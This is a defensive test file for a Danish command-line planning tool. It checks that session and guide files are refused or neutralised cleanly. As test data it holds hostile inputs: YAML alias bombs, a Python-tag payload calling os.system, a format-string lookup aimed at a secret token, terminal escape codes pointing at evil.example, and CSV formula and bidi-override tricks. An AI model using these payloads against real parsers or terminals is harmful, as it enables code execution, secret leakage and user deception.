"""Hostile and broken files: every case ends in the proper error with a Danish message, never
a traceback, a hang or a memory blow-up, and the file is left untouched.

Each kind of hostile file goes through the real program in a child process at least once
(`run_program`: the console script's start-up, a traceback as Python prints it); the other
cases of a kind run the same command line in-process (`run_inside`), which saves a start-up
each (about half a second of CPU)."""

from __future__ import annotations

import copy
import datetime as dt
import json
import os
import re
import resource
import signal
import time
from pathlib import Path

import pytest
import yaml
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from samarbejde.base.errors import ContentError, SessionError
from samarbejde.guide.content import load_guide
from samarbejde.guide.texts import bundled_guide_path, fallback_texts
from samarbejde.sessions.store import Store
from tests.helpers.fuzz import examples
from tests.helpers.program import FIXTURES, TZ, run_inside, run_program

NOW = dt.datetime(2026, 11, 27, 10, 0, tzinfo=TZ)
HEAD = (
    b"schema_version: 1\nname: Bombe\nrole: kommune\ncreated: 2026-10-01 09:30:00+01:00\n"
    b"updated: 2026-11-20 14:05:00+01:00\n"
)
VALID = (FIXTURES / "session_v1.yaml").read_bytes()
GUIDE = yaml.safe_load(bundled_guide_path().read_text(encoding="utf-8"))
# libyaml's dumper when PyYAML has it: the fuzzed files are the same YAML, written about five
# times faster (the pure-Python dumper was four fifths of test_content_mutations' time)
DUMPER = getattr(yaml, "CSafeDumper", yaml.SafeDumper)
FUZZ = settings(
    max_examples=examples(200),
    deadline=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
)

danish_words = (
    "kan ikke læses",
    "er ugyldig",
    "ikke gyldig YAML",
    "sessionsfil",
    "mangler",
    "forkert type",
    "ukendt",
    "findes",
    "mappe",
    "almindelig fil",
    "for dybt",
    "aliaser",
    "for stor",
    "grænsen er",
    "ugyldig værdi",
    "nyere udgave",
)


def check_session_file(tmp_path: Path, content: bytes) -> None:
    path = tmp_path / "fuzz.yaml"
    path.write_bytes(content)
    store = Store(tmp_path, lambda: NOW)
    try:
        session = store.load(path)
    except SessionError as err:
        text = fallback_texts().render(err.msg)
        assert text.startswith("Sessionsfilen") and any(w in text for w in danish_words), text
    else:
        store.save(session, tmp_path / "saved.yaml")  # what loads also saves
        assert store.load(tmp_path / "saved.yaml") == session
    assert path.read_bytes() == content


@FUZZ
@given(st.binary(max_size=2000))
def test_random_bytes(tmp_path_factory, content: bytes) -> None:
    check_session_file(tmp_path_factory.mktemp("b"), content)


@FUZZ
@given(st.integers(min_value=0, max_value=len(VALID)))
def test_truncated_files(tmp_path_factory, cut: int) -> None:
    check_session_file(tmp_path_factory.mktemp("t"), VALID[:cut])


yaml_values = st.recursive(
    st.none()
    | st.booleans()
    | st.integers()
    | st.floats(allow_nan=False)
    | st.text(max_size=50)
    | st.dates(),
    lambda inner: (
        st.lists(inner, max_size=4) | st.dictionaries(st.text(max_size=10), inner, max_size=4)
    ),
    max_leaves=20,
)
SESSION_KEYS = [
    "schema_version",
    "name",
    "role",
    "created",
    "updated",
    "organisation",
    "forms",
    "cursor",
    "completed",
    "readiness",
    "answers",
    "partners",
    "outreach",
    "checklist",
    "rounds",
    "extra_key",
]


@FUZZ
@given(st.sampled_from(SESSION_KEYS), yaml_values, st.sampled_from(["replace", "partner", "plan"]))
def test_wrong_types_in_a_valid_session(tmp_path_factory, key: str, value, where: str) -> None:
    data = yaml.safe_load(VALID)
    if where == "replace":
        data[key] = value
    elif where == "partner":
        data["partners"][0][key[:8]] = value
    else:
        data["outreach"]["p1"][key[:5]] = value
    content = yaml.dump(data, Dumper=DUMPER, allow_unicode=True).encode("utf-8")
    check_session_file(tmp_path_factory.mktemp("w"), content)


@pytest.mark.parametrize(
    "content",
    [
        pytest.param(
            b"a: &a ["
            + b"x, " * 9
            + b"x]\n"
            + b"".join(
                f"{c}: &{c} [{', '.join(['*' + p] * 9)}]\n".encode()
                for p, c in zip("abcdefgh", "bcdefghi", strict=True)
            ),
            id="billion-laughs",
        ),
        pytest.param(b"[" * 100_000 + b"]" * 100_000, id="deep-list"),
        pytest.param(b"{a: " * 5_000 + b"1" + b"}" * 5_000, id="deep-mapping"),
        pytest.param(b"schema_version: 1\nname: x\nextra: " + b"[" * 80 + b"]" * 80, id="deep-80"),
        pytest.param(b"!!python/object/apply:os.system ['touch /tmp/pwned']\n", id="python-tag"),
        pytest.param(b"name: !!python/name:os.system\n", id="python-name"),
        pytest.param(b"schema_version: 1\nname: " + b"x" * 10_000_000 + b"\n", id="huge-string"),
        pytest.param(b"\x00\x01\x02 binary", id="nul-bytes"),
        pytest.param(  # one string, named once, then used 20,000 times: 6 GB of text
            HEAD
            + b"x: &a "
            + b"A" * 300_000
            + b"\nrounds:\n"
            + b"- {date: 2026-01-01, note: *a}\n" * 20_000,
            id="string-alias-bomb",
        ),
        pytest.param(
            HEAD
            + b"x: &a "
            + b"A" * 300_000
            + b"\npartners:\n"
            + b"".join(b"- {id: q%d, name: *a}\n" % i for i in range(14_000)),
            id="name-alias-bomb",
        ),
        pytest.param(
            HEAD + b"partners:\n- {id: p.1, name: Prik, interest: 5, influence: 4}\n",
            id="dot-in-a-partner-id",
        ),
        pytest.param(b"partners:\n-  id: p9\n   name: Ny partner\n", id="two-spaces-after-dash"),
        pytest.param(b"- -off:\n", id="dash-dash-off"),
        pytest.param(b'k:\n-   2: "1\n', id="open-quote-in-list"),
        pytest.param("schema_version: 1\nname: ∞\nrole: kommune\n".encode("utf-16"), id="utf-16"),
    ],
)
def test_specific_hostile_files(tmp_path: Path, content: bytes) -> None:
    before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
    start = time.monotonic()
    check_session_file(tmp_path, content)
    assert time.monotonic() - start < 30  # no hang
    grown_mb = (resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before) / 1024
    assert grown_mb < 500  # no memory blow-up
    assert not Path("/tmp/pwned").exists()


YAMLISH = st.lists(
    st.sampled_from(["-", " ", "  ", "   ", ":", "\n", "id", "p9", "name", "partners", '"', "'",
                     "[", "]", "{", "}", ",", "?", "&a", "*a", "!", "|", ">", "#", "2", "off"]),
    max_size=40,
).map("".join)  # fmt: skip


class TooSlow(Exception):
    pass


@FUZZ
@given(YAMLISH)
def test_yaml_like_text_loads_or_is_refused_within_a_second(tmp_path_factory, text: str) -> None:
    """Any file loads or is refused at once: a text the old hand-made reader looped on forever
    (`partners:\\n-  id: p9\\n   name: …`) is among these shapes."""

    def stop(signum, frame):
        raise TooSlow(repr(text))

    old = signal.signal(signal.SIGALRM, stop)
    signal.setitimer(signal.ITIMER_REAL, 1.0)
    try:
        check_session_file(tmp_path_factory.mktemp("yamlish"), text.encode("utf-8"))
    finally:
        signal.setitimer(signal.ITIMER_REAL, 0)
        signal.signal(signal.SIGALRM, old)


def test_a_time_without_a_zone_is_local_time(tmp_path: Path, monkeypatch) -> None:
    """The obvious hand edit: `updated: 2026-11-20 14:05:00` (no zone)."""
    home = tmp_path / "home"
    folder = home / "sessions"
    folder.mkdir(parents=True)
    text = VALID.decode("utf-8")
    text = re.sub(r"updated: .*", "updated: 2026-11-20 14:05:00", text)
    text = re.sub(r"created: .*", "created: '2026-10-01T09:30:00'", text)
    (folder / "nordby.yaml").write_text(text, encoding="utf-8")
    (folder / "other.yaml").write_bytes(VALID)
    session = Store(home, lambda: NOW).load(folder / "nordby.yaml")
    assert session.updated.tzinfo is not None and session.updated.hour == 14
    monkeypatch.chdir(tmp_path)
    for args in (["list"], ["summary", str(folder / "nordby.yaml")], ["export", "-o", "-"]):
        result = run_inside(*args, env={"SAMARBEJDE_HOME": str(home)})
        assert result.returncode == 0, (args, result.stderr)
        assert "Traceback" not in result.stderr


def test_too_big_file(tmp_path: Path) -> None:
    path = tmp_path / "big.yaml"
    with open(path, "wb") as fh:
        fh.truncate(43 * 1024 * 1024)
    with pytest.raises(SessionError) as info:
        Store(tmp_path, lambda: NOW).load(path)
    said = fallback_texts().render(info.value.msg)
    assert "er for stor" in said and "fylder 43,0 MB, og grænsen er 1 MB" in said


def test_list_beside_a_big_session_file(tmp_path: Path) -> None:
    """A 43 MB file in the sessions folder is named as too big, with its size (never parsed);
    the others still show."""
    home = tmp_path / "home"
    folder = home / "sessions"
    folder.mkdir(parents=True)
    (folder / "nordby.yaml").write_bytes(VALID)
    partners = b"".join(b"- {id: p%d, name: Partner %d}\n" % (i, i) for i in range(1_500_000))
    (folder / "kaempe.yaml").write_bytes(VALID.replace(b"partners:\n", b"partners:\n" + partners))
    assert (folder / "kaempe.yaml").stat().st_size > 40 * 1024 * 1024
    result = run_program("list", env={"SAMARBEJDE_HOME": str(home), "COLUMNS": "100"})
    assert result.returncode == 0
    out = " ".join(result.stdout.split())
    assert "kaempe.yaml" in out and "for stor:" in out and "MB" in out and "ulæselig" not in out
    assert "Fællesspisning i Nordby" in result.stdout


def test_folder_broken_link_and_fifo(tmp_path: Path) -> None:
    store = Store(tmp_path, lambda: NOW)
    folder = tmp_path / "mappe.yaml"
    folder.mkdir()
    link = tmp_path / "link.yaml"
    link.symlink_to(tmp_path / "findes-ikke.yaml")
    fifo = tmp_path / "fifo.yaml"
    os.mkfifo(fifo)
    for path, words in ((folder, "mappe"), (link, "findes ikke"), (fifo, "almindelig fil")):
        with pytest.raises(SessionError) as info:
            store.load(path)
        assert words in fallback_texts().render(info.value.msg)


def test_cli_on_hostile_files_has_no_traceback(tmp_path: Path) -> None:
    folder = tmp_path / "sessions"
    folder.mkdir()
    (folder / "bombe.yaml").write_bytes(b"a: &a [x, x]\nb: [*a, *a]\n")
    (folder / "mappe.yaml").mkdir()
    (folder / "link.yaml").symlink_to(folder / "væk.yaml")
    os.mkfifo(folder / "fifo.yaml")
    env = {"SAMARBEJDE_HOME": str(tmp_path)}
    listing = run_program("list", env=env)
    assert listing.returncode == 0 and listing.stdout.count("ulæselig") == 4
    for name in ("bombe", "mappe", "link", "fifo"):
        result = run_program("summary", str(folder / f"{name}.yaml"), env=env)
        assert result.returncode == 1, name
        assert "Traceback" not in result.stderr and "kan ikke læses" in result.stderr


# -- content files --------------------------------------------------------------------------


def guide_paths(node, prefix=()):
    yield prefix
    if isinstance(node, dict):
        for k, v in node.items():
            yield from guide_paths(v, (*prefix, k))
    elif isinstance(node, list):
        for i, v in enumerate(node):
            yield from guide_paths(v, (*prefix, i))


ALL_PATHS = [p for p in guide_paths(GUIDE) if p]


@FUZZ
@given(st.sampled_from(ALL_PATHS), yaml_values | st.just("__delete__"))
def test_content_mutations(tmp_path_factory, place, value) -> None:
    data = copy.deepcopy(GUIDE)
    parent = data
    for key in place[:-1]:
        parent = parent[key]
    if value == "__delete__":
        del parent[place[-1]]
    else:
        parent[place[-1]] = value
    path = tmp_path_factory.mktemp("c") / "guide.yaml"
    content = yaml.dump(data, Dumper=DUMPER, allow_unicode=True).encode("utf-8")
    path.write_bytes(content)
    try:
        load_guide(path)
    except ContentError as err:
        text = fallback_texts().render(err.msg)
        assert text.startswith("Indholdsfilen") and str(path) in text
    assert path.read_bytes() == content


@FUZZ
@given(st.binary(max_size=1000))
def test_content_random_bytes(tmp_path_factory, content: bytes) -> None:
    path = tmp_path_factory.mktemp("cb") / "guide.yaml"
    path.write_bytes(content)
    with pytest.raises(ContentError):
        load_guide(path)


# -- nothing from a file reaches the terminal as an escape code ------------------------------

ESCAPES = {
    "title": "\x1b]0;pwned\x07",
    "clipboard": "\x1b]52;c;ZWNobyBwd25lZA==\x07",
    "hidden link": "\x1b]8;;http://evil.example/\x1b\\klik her\x1b]8;;\x1b\\",
    "clear screen": "\x1b[2J\x1b[HFalsk tekst",
    "c1 csi": "\x9b2J",
    "markup link": "[link=http://evil.example/]klik[/link] [bold]fed[/]",
}


def hostile_home(tmp_path: Path) -> Path:
    home = tmp_path / "home"
    (home / "sessions").mkdir(parents=True)
    data = yaml.safe_load(VALID)
    payload = " ".join(ESCAPES.values())
    data["organisation"] = payload
    data["partners"][0]["name"] += payload
    data["partners"][1]["contact"] = payload
    data["answers"]["dagligdag"]["maalgruppe"] = payload
    data["checklist"]["snak_ofte"] = {"done": False, "note": payload}
    text = yaml.safe_dump(data, allow_unicode=True)
    (home / "sessions" / "nordby.yaml").write_text(text, encoding="utf-8")
    return home


@pytest.mark.parametrize("colour", [False, True])
def test_escape_codes_in_a_session_never_reach_the_terminal(tmp_path: Path, colour: bool) -> None:
    home = hostile_home(tmp_path)
    env = {"SAMARBEJDE_HOME": str(home), "COLUMNS": "100"}
    if colour:
        env["FORCE_COLOR"] = "1"  # as in a terminal: Rich's own styles, nothing else
    run = run_program if colour else run_inside  # the real program once, in colour
    for args in (["list"], ["summary"], ["export", "-o", "-"], ["export", "-f", "csv", "-o", "-"]):
        result = run(*args, env=env)
        assert result.returncode == 0, (args, result.stderr)
        out = result.stdout
        assert "\x07" not in out and "\x9b" not in out and "\x1b]" not in out, args
        assert "\x1b[2J" not in out and "\x1b[H" not in out, args
        if not colour:
            assert "\x1b" not in out, args
        if args == ["summary"]:
            flat = "".join(re.sub(r"\x1b\[[0-9;]*m", "", out).split())  # no styles, no wrapping
            assert "]0;pwned" in flat and "Falsktekst" in flat  # harmless text now
            assert "[link=http://evil.example/]klik[/link]" in flat  # never read as markup


def test_paths_are_never_read_as_markup(tmp_path: Path, monkeypatch) -> None:
    home = hostile_home(tmp_path)
    monkeypatch.chdir(tmp_path)
    (tmp_path / "[").mkdir()
    for name in ("[b]rapport.md", "[/rapport.md", "[link=x]r.md"):
        result = run_inside("export", "-o", name, env={"SAMARBEJDE_HOME": str(home)})
        assert result.returncode == 0, result.stderr
        assert name in result.stdout
        assert (tmp_path / name).exists()


# -- content files from others: data, never code, and bounded ---------------------------------


def guide_variant(tmp_path: Path, change) -> Path:
    data = copy.deepcopy(GUIDE)
    change(data)
    path = tmp_path / "vores-guide.yaml"
    path.write_text(yaml.safe_dump(data, allow_unicode=True), encoding="utf-8")
    return path


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("{path.absolute.__globals__[os].environ[SECRET_TOKEN]}", "path.absolute.__globals__"),
        ("{0}", '"0"'),
        ("{name!z}", '"name!z"'),
        ("{name:>99999999999}", '"name:>99999999999"'),
        ("{hemmelig}", '"hemmelig"'),
    ],
)
def test_a_content_file_cannot_reach_into_the_program(tmp_path: Path, text: str, shown) -> None:
    path = guide_variant(tmp_path, lambda d: d["ui"].update(error_session_not_found=text))
    run = run_program if text.startswith("{path") else run_inside  # the real program once
    result = run(
        "--content", str(path), "summary", "x",
        env={"SAMARBEJDE_HOME": str(tmp_path), "SECRET_TOKEN": "hemmeligt-token"},
    )  # fmt: skip
    assert result.returncode == 1
    assert "hemmeligt-token" not in result.stdout + result.stderr
    assert "ui.error_session_not_found" in result.stderr and "pladsholder" in result.stderr
    assert shown in result.stderr and "Traceback" not in result.stderr


def test_a_text_that_is_not_a_placeholder_is_shown_as_it_is() -> None:
    from samarbejde.guide.texts import Texts

    texts = Texts({"k": "{{ikke}} {name {0} {name} }}", "j": "{name.__class__}"})
    assert texts("k", name="Nordby") == "{ikke} {name {0} Nordby }"
    assert texts("j", name="Nordby") == "{name.__class__}"


@pytest.mark.parametrize(
    ("change", "place"),
    [
        (lambda d: d.update(forms=[]), "forms"),
        (lambda d: d["diagram"].update(scale_max=10_000_000), "diagram.scale_max"),
        (lambda d: d["diagram"].update(scale_min=-5), "diagram.scale_min"),
        (lambda d: d.update(title="x" * 100_000), "title"),
        (lambda d: d.update(partner_kinds=[]), "partner_kinds"),
        (
            lambda d: d["checklist"].extend(
                {**copy.deepcopy(d["checklist"][0]), "id": f"x{i}"} for i in range(99)
            ),
            "checklist",
        ),
    ],
)
def test_what_a_content_file_can_set_is_bounded(tmp_path: Path, change, place: str) -> None:
    path = guide_variant(tmp_path, change)
    start = time.monotonic()
    run = run_program if place == "forms" else run_inside  # the real program once
    result = run("--content", str(path), "guide", env={"SAMARBEJDE_HOME": str(tmp_path)})
    assert time.monotonic() - start < 30
    assert result.returncode == 1, result.stdout[-300:]
    assert place in result.stderr and "Traceback" not in result.stderr


def test_a_rating_outside_the_scale_is_refused_with_its_place(tmp_path: Path) -> None:
    home = tmp_path / "home"
    (home / "sessions").mkdir(parents=True)
    text = VALID.decode("utf-8").replace("interest: 5", "interest: 9", 1)
    assert text != VALID.decode("utf-8")
    (home / "sessions" / "nordby.yaml").write_text(text, encoding="utf-8")
    path = home / "sessions" / "nordby.yaml"
    result = run_inside("summary", str(path), env={"SAMARBEJDE_HOME": str(home)})
    assert result.returncode == 1
    assert "partners[0].interest" in result.stderr and "skalaen 1–5" in result.stderr
    listed = run_inside("list", env={"SAMARBEJDE_HOME": str(home)})
    assert listed.returncode == 0 and "ulæselig" in listed.stdout


# -- found by a hostile tester's hour -----------------------------------------------------------


def test_a_report_never_replaces_a_session_or_a_device(tmp_path: Path) -> None:
    home = tmp_path / "home"
    folder = home / "sessions"
    folder.mkdir(parents=True)
    session = folder / "faellesspisning-i-nordby.yaml"
    session.write_bytes(VALID)
    shared = tmp_path / "delt.yaml"
    shared.write_bytes(VALID)
    fifo = tmp_path / "fifo.md"
    os.mkfifo(fifo)
    link = tmp_path / "link.md"
    link.symlink_to(tmp_path / "andet.md")
    env = {"SAMARBEJDE_HOME": str(home)}
    for target in (session, folder / "rapport.md", shared, fifo, link):
        # a FIFO opened for writing would hang the test process: the real program, with a
        # time-out, meets it
        run = run_program if target == fifo else run_inside
        for fmt in ("md", "csv"):
            result = run("export", "-f", fmt, "-o", str(target), "--force", env=env)
            if (fmt, target.suffix) == ("csv", ".md"):  # refused before all else
                assert result.returncode == 2 and "men formatet er csv" in result.stderr
                continue
            assert result.returncode == 1, (target, result.stdout)
            assert "Rapporten skrives ikke" in " ".join(result.stderr.split())
    assert session.read_bytes() == VALID and shared.read_bytes() == VALID
    assert fifo.is_fifo() and link.is_symlink() and not (tmp_path / "andet.md").exists()


def test_a_name_never_finds_a_session_of_another_name(tmp_path: Path) -> None:
    store = Store(tmp_path, lambda: NOW)
    store.folder.mkdir(parents=True)
    taken = store.path_for("Фонд")  # another session sits where "Фонд" would go
    other = yaml.safe_load(VALID)
    other["name"] = taken.stem
    taken.write_text(yaml.safe_dump(other, allow_unicode=True), encoding="utf-8")
    assert store.path_for("Фонд") != taken
    with pytest.raises(SessionError):
        store.resolve("Фонд")
    result = run_inside("delete", "Фонд", "--yes", env={"SAMARBEJDE_HOME": str(tmp_path)})
    assert result.returncode == 1 and taken.exists()
    hidden = store.folder / ".skjult.yaml"
    hidden.write_bytes(VALID)
    result = run_inside("delete", ".skjult", "--yes", env={"SAMARBEJDE_HOME": str(tmp_path)})
    assert result.returncode == 1 and hidden.exists()


@pytest.mark.parametrize("where", ["session", "content"])
def test_a_number_of_thousands_of_digits_is_no_traceback(tmp_path: Path, where: str) -> None:
    home = tmp_path / "home"
    (home / "sessions").mkdir(parents=True)
    huge = "9" * 4301
    args: list[str] = ["list"]
    if where == "session":
        text = VALID.decode("utf-8") + f"x: {huge}\n"
        (home / "sessions" / "s.yaml").write_text(text, encoding="utf-8")
        (home / "sessions" / "nordby.yaml").write_bytes(VALID)
    else:
        path = guide_variant(tmp_path, lambda d: d["diagram"].update(high_from=0))
        path.write_text(
            path.read_text(encoding="utf-8").replace("high_from: 0", f"high_from: {huge}")
        )
        args = ["--content", str(path), "guide"]
    run = run_program if where == "session" else run_inside  # the real program once
    result = run(*args, env={"SAMARBEJDE_HOME": str(home)})
    assert "Traceback" not in result.stderr
    if where == "session":
        assert result.returncode == 0 and "ulæselig" in result.stdout
        assert "Fællesspisning i Nordby" in result.stdout  # the others still show
    else:
        assert result.returncode == 1 and "tusindvis af cifre" in " ".join(result.stderr.split())


def test_json_escapes_every_control_character(tmp_path: Path) -> None:
    home = tmp_path / "home"
    (home / "sessions").mkdir(parents=True)
    data = yaml.safe_load(VALID)
    data["partners"][0]["name"] = "Frivillig\x9d0;PWN\x9c\x9b2J\x7fX\x1b]0;t\x07"
    path = home / "sessions" / "nordby.yaml"
    path.write_text(yaml.safe_dump(data, allow_unicode=True), encoding="utf-8")
    result = run_inside("summary", "--json", env={"SAMARBEJDE_HOME": str(home)})
    assert result.returncode == 0
    assert not any(0x7F <= ord(c) < 0xA0 or (ord(c) < 0x20 and c != "\n") for c in result.stdout)
    assert json.loads(result.stdout)["partners"][0]["name"] == data["partners"][0]["name"]


def test_a_name_too_long_for_a_file_is_not_found(tmp_path: Path) -> None:
    result = run_inside("summary", "x" * 300, env={"SAMARBEJDE_HOME": str(tmp_path)})
    assert result.returncode == 1
    assert "Ingen session ved navn" in result.stderr and "skrive sit svar" not in result.stderr


def test_a_top_level_key_that_is_no_text(tmp_path: Path) -> None:
    for key in ("2024-01-01", "null", "1"):
        path = tmp_path / f"k{len(key)}.yaml"
        path.write_bytes(VALID + f"{key}: x\n".encode())
        with pytest.raises(SessionError) as info:
            Store(tmp_path, lambda: NOW).load(path)
        text = fallback_texts().render(info.value.msg)
        assert "ukendt felt" in text and "datetime" not in text and "None" not in text


def test_the_calendar_file_is_text_at_any_date(tmp_path: Path) -> None:
    """Escape codes from a name stay out of the .ics; a date in year 1 or 9999 and any
    --days give a calendar, not a traceback."""
    home = tmp_path / "home"
    (home / "sessions").mkdir(parents=True)
    data = yaml.safe_load(VALID)
    data["name"] = "Nordby\x1b[2J\x1b[3J\x1b]52;c;ZWNobyBoYWNr\x07"
    data["checklist"]["evaluer"] = {"done": False, "note": "", "date": dt.date(1, 1, 1)}
    data["outreach"]["p1"]["next_contact"] = dt.date(9999, 12, 31)
    text = yaml.safe_dump(data, allow_unicode=True)
    (home / "sessions" / "nordby.yaml").write_text(text, encoding="utf-8")
    env = {"SAMARBEJDE_HOME": str(home)}
    for args in (
        ["agenda", "--ics", "-"],
        ["agenda", "--days", "99999999999999999999", "--ics", "-"],
        ["export", "nordby", "--format", "ics", "-o", "-"],
        ["agenda", "--days", "99999999"],
    ):
        result = run_inside(*args, env=env)
        assert result.returncode == 0, (args, result.stderr)
        assert "\x1b" not in result.stdout and "\x07" not in result.stdout, args
    ics = run_inside("agenda", "--ics", "-", env=env).stdout
    assert "SUMMARY:Evaluering: Nordby␛[2J␛[3J␛]52" in ics  # shown, harmless
    listed = run_inside("agenda", "--days", "99999999", env=env).stdout
    assert "01-01-0001" in listed and "31-12-9999" in listed


def test_bidirectional_overrides_cannot_turn_text_around(tmp_path: Path) -> None:
    home = tmp_path / "home"
    (home / "sessions").mkdir(parents=True)
    data = yaml.safe_load(VALID)
    data["partners"][0]["name"] = "Faktura\u202egnp.exe\u202c og \u2067isolat\u2069"
    text = yaml.safe_dump(data, allow_unicode=True)
    (home / "sessions" / "nordby.yaml").write_text(text, encoding="utf-8")
    env = {"SAMARBEJDE_HOME": str(home), "COLUMNS": "100"}
    for args in (["summary"], ["export", "-o", "-"], ["export", "-f", "html", "-o", "-"],
                 ["export", "-f", "csv", "-o", "-"], ["summary", "--json"]):  # fmt: skip
        out = run_inside(*args, env=env).stdout
        assert not re.search("[\u202a-\u202e]", out), args
        assert "Faktura" in out and "gnp.exe" in out
    md = run_inside("export", "-o", "-", env=env).stdout
    assert "Faktura\ufffdgnp.exe\ufffd og \u2067isolat\u2069" in md  # an isolate turns nothing


def test_a_dot_in_a_partner_id_is_named_in_danish(tmp_path: Path) -> None:
    path = tmp_path / "prik.yaml"
    path.write_bytes(HEAD + b"partners:\n- {id: p.1, name: Prik, interest: 5, influence: 4}\n")
    result = run_inside("summary", str(path), env={"SAMARBEJDE_HOME": str(tmp_path)})
    assert result.returncode == 1 and "Traceback" not in result.stderr
    message = " ".join(result.stderr.split())
    assert 'partners[0].id: id\'et "p.1" må ikke indeholde punktum' in message


# -- content values (ui, diagram) and CSV headers, fuzzed through every output ------

UI_KEYS = sorted(GUIDE["ui"])
CSV_HEAD = ["name", "kind", "contact", "brings", "quadrant", "priority", "next_contact"]
DIAGRAM_TEXTS = [
    ("diagram", axis, field) for axis in ("x", "y") for field in ("name", "question", "low", "high")
] + [("diagram", "quadrants", i, field) for i in range(4) for field in ("name", "advice")]
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
# any text, with what a hostile file would try most: escapes, C1, overrides, formulas
hostile_text = st.text(max_size=40) | st.sampled_from(
    [
        *ESCAPES.values(),
        "=1+1",
        '=HYPERLINK("http://x/?"&B2)',
        "@SUM(A1)",
        "\u202egnp.exe",
        "\ud800",
        "{name}",
        "\x00",
        "\t=1",
        "-2+3",
    ]
)


def _outputs(guide) -> dict[str, str]:
    """Every text output a content file reaches, for the fixture session."""
    from samarbejde.reports import agenda
    from samarbejde.reports import render as export
    from samarbejde.sessions.store import from_data

    session = from_data(yaml.safe_load(VALID), Path("x.yaml"))
    found = agenda.items([session], guide, NOW.date(), 36_500, [Path("x.yaml")])
    return {
        "csv": export.csv_text(session, guide),
        "md": export.markdown(session, guide, NOW.date()),
        "html": export.html_report(session, guide, NOW.date()),
        "ics": agenda.ics_bytes(found, guide, NOW).decode("utf-8"),
    }


def _content_case(changes: list[tuple[tuple, str]]):
    from samarbejde.guide.content import parse_guide

    data = copy.deepcopy(GUIDE)
    for place, value in changes:
        parent = data
        for key in place[:-1]:
            parent = parent[key]
        parent[place[-1]] = value
    try:
        return parse_guide(data, Path("vores-guide.yaml"))
    except ContentError as err:
        text = fallback_texts().render(err.msg)
        assert text.startswith("Indholdsfilen") and "vores-guide.yaml" in text
        return None


@settings(max_examples=examples(150), deadline=None)
@given(
    st.lists(
        st.tuples(st.sampled_from([("ui", k) for k in UI_KEYS] + DIAGRAM_TEXTS), hostile_text),
        min_size=1,
        max_size=4,
    )
)
def test_content_values_never_reach_an_output_raw(changes) -> None:
    """A content file's `ui` and `diagram` texts: refused at load with a Danish message, or
    every output (CSV, Markdown, HTML, calendar) is free of control characters and overrides."""
    from samarbejde.base.terminal import OVERRIDES, has_control

    guide = _content_case(changes)
    if guide is None:
        return
    for kind, text in _outputs(guide).items():
        assert not has_control(text.replace("\r\n", "\n")), kind
        assert text == text.translate(OVERRIDES), kind


@settings(max_examples=examples(150), deadline=None)
@given(
    st.lists(
        st.tuples(
            st.sampled_from([("ui", k) for k in CSV_HEAD] + [("diagram", a, "name") for a in "xy"]),
            hostile_text,
        ),
        min_size=1,
        max_size=9,
    )
)
def test_csv_header_cells_are_never_formulas(changes) -> None:
    import csv
    import io

    guide = _content_case(changes)
    if guide is None:
        return
    from samarbejde.reports import render as export
    from samarbejde.sessions.store import from_data

    session = from_data(yaml.safe_load(VALID), Path("x.yaml"))
    header = next(csv.reader(io.StringIO(export.csv_text(session, guide)), delimiter=";"))
    assert len(header) == 9
    for cell in header:
        assert not cell.startswith(FORMULA_START), header
